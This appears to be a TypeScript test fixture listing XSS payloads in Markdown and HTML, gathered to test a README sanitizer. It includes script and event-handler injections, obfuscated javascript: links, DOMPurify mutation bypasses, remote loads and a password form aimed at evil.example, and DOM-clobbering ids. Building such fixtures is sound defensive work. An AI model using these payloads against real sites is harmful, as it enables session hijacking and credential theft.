/**
 * Hostile READMEs: each tries to run script, load a resource, navigate, or
 * clobber the page's DOM through the rendered README. Collected from the
 * OWASP XSS filter evasion cheat sheet, DOMPurify and sanitize-html advisories,
 * and the Markdown-specific ways in (links, images, autolinks, references).
 */
export const XSS_PAYLOADS: { name: string; markdown: string }[] = [
  // Script and the elements that carry it.
  { name: 'script element', markdown: '<script>alert(1)</script>' },
  { name: 'script element, upper case, remote src', markdown: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>' },
  { name: 'script inside a paragraph', markdown: 'hello <script>alert(1)</script> world' },
  { name: 'template holding a script', markdown: '<template><script>alert(1)</script></template>' },
  { name: 'noscript mutation (title closes noscript)', markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: 'textarea holding markup', markdown: '<textarea><img src=x onerror=alert(1)></textarea>' },
  { name: 'select/option holding markup', markdown: '<select><option><img src=x onerror=alert(1)></option></select>' },
  { name: 'plaintext element', markdown: '<plaintext><img src=x onerror=alert(1)>' },

  // Event handlers.
  { name: 'img onerror', markdown: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror with an http source', markdown: '<img src="https://img.example/x.png" onerror="alert(1)" alt="x">' },
  { name: 'svg onload', markdown: '<svg onload=alert(1)>' },
  { name: 'svg holding a script', markdown: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg animate setting href to javascript:', markdown: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>' },
  { name: 'details ontoggle', markdown: '<details open ontoggle=alert(1)><summary>s</summary>x</details>' },
  { name: 'onclick on an allowed link', markdown: '<a href="https://ok.example" onclick="alert(1)" target="_blank">x</a>' },
  { name: 'onmouseover on a paragraph', markdown: '<p onmouseover="alert(1)">x</p>' },
  { name: 'custom element with a handler', markdown: '<x-widget onclick=alert(1)>x</x-widget>' },
  { name: 'input type=image onerror', markdown: '<input type=image src=x onerror=alert(1)>' },
  { name: 'video poster and source onerror', markdown: '<video poster=javascript:alert(1)><source onerror=alert(1)></video>' },
  { name: 'Markdown link title breaking out into a handler', markdown: '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")' },
  { name: 'Markdown image title breaking out into a handler', markdown: '![x](https://img.example/x.png "\\" onerror=\\"alert(1)")' },

  // javascript: and friends in HTML links.
  { name: 'javascript: href', markdown: '<a href="javascript:alert(1)">x</a>' },
  { name: 'javascript: mixed case', markdown: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  { name: 'javascript: decimal entity', markdown: '<a href="&#106;avascript:alert(1)">x</a>' },
  { name: 'javascript: hex entities without semicolons', markdown: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>' },
  { name: 'javascript: zero-padded entities', markdown: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>' },
  { name: 'javascript: &colon;', markdown: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: 'javascript: encoded tab inside', markdown: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'javascript: &Tab; and &NewLine; inside', markdown: '<a href="java&Tab;scr&NewLine;ipt:alert(1)">x</a>' },
  { name: 'javascript: literal tab inside', markdown: '<a href="jav\tascript:alert(1)">x</a>' },
  { name: 'javascript: leading spaces', markdown: '<a href="  javascript:alert(1)">x</a>' },
  { name: 'javascript: leading control character', markdown: '<a href="&#14;javascript:alert(1)">x</a>' },
  { name: 'javascript: soft hyphen inside', markdown: '<a href="java&shy;script:alert(1)">x</a>' },
  { name: 'javascript: unquoted', markdown: '<a href=javascript:alert(1)>x</a>' },
  { name: 'data:text/html link', markdown: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>' },
  { name: 'data:image/svg+xml link', markdown: '<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">x</a>' },
  { name: 'vbscript: link', markdown: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'xlink:href javascript:', markdown: '<a xlink:href="javascript:alert(1)">x</a>' },
  { name: 'protocol-relative link', markdown: '<a href="//evil.example/x">x</a>' },
  { name: 'backslash host link', markdown: '<a href="\\\\evil.example/x">x</a>' },
  { name: 'link around a javascript: image', markdown: '<a href="https://ok.example"><img src="javascript:alert(1)" alt="y"></a>' },
  { name: 'img srcset javascript:', markdown: '<img srcset="javascript:alert(1)">' },
  { name: 'table background javascript:', markdown: '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>' },
  { name: 'blockquote cite javascript:', markdown: '<blockquote cite="javascript:alert(1)">x</blockquote>' },

  // javascript: and friends in Markdown.
  { name: 'Markdown javascript: link', markdown: '[x](javascript:alert(1))' },
  { name: 'Markdown javascript: link with an entity', markdown: '[x](javascript&#58;alert(1))' },
  { name: 'Markdown javascript: link, percent-encoded colon', markdown: '[x](javascript%3Aalert(1))' },
  { name: 'Markdown javascript: link in angle brackets with spaces', markdown: '[x](<javascript: alert(1)>)' },
  { name: 'Markdown javascript: image', markdown: '![x](javascript:alert(1))' },
  { name: 'Markdown data:text/html link', markdown: '[x](data:text/html,<script>alert(1)</script>)' },
  { name: 'Markdown data:image image', markdown: '![x](data:image/png;base64,iVBORw0KGgo=)' },
  { name: 'Markdown vbscript: link', markdown: '[x](vbscript:msgbox(1))' },
  { name: 'autolink javascript:', markdown: '<javascript:alert(1)>' },
  { name: 'autolink JAVASCRIPT: upper case', markdown: '<JAVASCRIPT:alert(1)>' },
  { name: 'autolink data:', markdown: '<data:text/html,alert(1)>' },
  { name: 'reference link to javascript:', markdown: '[x][r]\n\n[r]: javascript:alert(1)' },
  { name: 'reference image to javascript:', markdown: '![x][r]\n\n[r]: javascript:alert(1)' },
  { name: 'reference link with an entity-encoded scheme', markdown: '[x]\n\n[x]: &#x6A;avascript:alert(1)' },

  // Resources, navigation and forms.
  { name: 'iframe srcdoc', markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'iframe javascript: src', markdown: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'unclosed iframe with markup after it', markdown: '<iframe><img src=x onerror=alert(1)>' },
  { name: 'math mtext mglyph style (DOMPurify bypass)', markdown: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>' },
  { name: 'style @import', markdown: "<style>@import 'https://evil.example/x.css';</style>" },
  { name: 'style attribute', markdown: '<p style="background:url(javascript:alert(1))">x</p>' },
  { name: 'base href', markdown: '<base href="https://evil.example/">' },
  { name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'link stylesheet', markdown: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'form action with input and button', markdown: '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">go</button></form>' },
  { name: 'object data', markdown: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed src', markdown: '<embed src="javascript:alert(1)">' },

  // Comments and CDATA.
  { name: 'comment breakout', markdown: '<!-- --><script>alert(1)</script> -->' },
  { name: 'comment closed by --!>', markdown: '<!-- --!><img src=x onerror=alert(1)> -->' },
  { name: 'empty comment <!-->', markdown: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'CDATA holding a script', markdown: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'CDATA in svg closing early', markdown: '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>' },

  // DOM clobbering: ids, names and classes the page might read.
  { name: 'id and name on an image', markdown: '<img id="config" name="getElementById" src="https://img.example/x.png">' },
  { name: 'form with id', markdown: '<form id="csrf"><input name="token"></form>' },
  { name: 'anchor with id and name', markdown: '<a id="defaultView" name="location" href="https://ok.example">x</a>' },
  { name: 'heading with a __proto__ id', markdown: '<h1 id="__proto__">x</h1>' },
  { name: 'div with our id prefix', markdown: '<div id="readme-install">x</div>' },
  { name: 'classes on code and paragraphs', markdown: '<p class="admin-only">x</p><code class="language-js hljs evil">y</code>' },
];
